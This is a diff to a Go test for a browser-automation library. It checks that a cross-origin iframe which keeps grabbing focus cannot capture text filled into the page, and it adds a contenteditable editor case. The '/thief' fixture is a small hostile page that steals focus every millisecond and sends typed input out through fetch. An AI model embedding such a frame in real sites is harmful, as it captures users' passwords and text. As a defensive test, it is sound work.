@@ -123,7 +123,7 @@ func TestActiveTabThatIsSilent(t *testing.T) {
 func TestFrameThatTakesTheFocus(t *testing.T) {
 	t.Parallel()
 	site, _, told := pages(t, map[string]string{
-		"/page": `<title>page</title><input id=pw><input id=t onkeydown="window.keys=(window.keys??0)+1"><br>
+		"/page": `<title>page</title><div contenteditable id=e></div><input id=pw><input id=t onkeydown="window.keys=(window.keys??0)+1"><br>
 			<iframe src="OTHER/thief" width=300 height=100></iframe>`,
 		"/thief": `<input id=i oninput="fetch('/tell?text='+value)"><script>setInterval(() => { window.focus(); i.focus() }, 1)</script>`,
 	})
@@ -148,6 +148,13 @@ func TestFrameThatTakesTheFocus(t *testing.T) {
 				if strings.Contains(text, "secret") {
 					t.Errorf("the frame got %s", text)
 				}
+			}
+			for range 10 { // an editor's text goes where the focus is
+				err := b.Fill(ctx, browser.Fill{Element: css("#e"), Text: "text\nof two lines"})
+				if got := evaluate[string](t, b, "e.innerText"); (err == nil) != (got != "") {
+					t.Errorf("the editor has %q: %v", got, err)
+				}
+				evaluate[any](t, b, "e.textContent = '', null")
 			}
 			for range 5 {
 				if b.Press(ctx, browser.Press{Element: css("#t"), Keys: "x"}) == nil {
